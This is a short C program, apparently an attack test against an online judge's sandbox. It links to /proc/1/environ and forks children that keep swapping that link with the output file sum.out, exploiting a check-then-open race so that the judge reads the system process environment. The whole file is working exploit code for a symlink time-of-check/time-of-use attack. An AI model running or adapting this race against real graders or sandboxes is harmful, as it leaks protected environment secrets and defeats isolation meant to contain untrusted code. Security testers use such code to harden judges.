#include "attack.h"
/* A child swaps a link and a file for as long as it lives, in the hope that the judge looks at one and opens the other. */
int main(void) {
    symlink("/proc/1/environ", "link");
    FILE *plain = fopen("sum.out", "w");
    fputs("0\n", plain);
    fclose(plain);
    for (int n = 0; n < 4; n++) {
        if (fork() == 0) for (;;) renameat2(AT_FDCWD, "link", AT_FDCWD, "sum.out", RENAME_EXCHANGE);
    }
    usleep(20000);
    return 0;
}
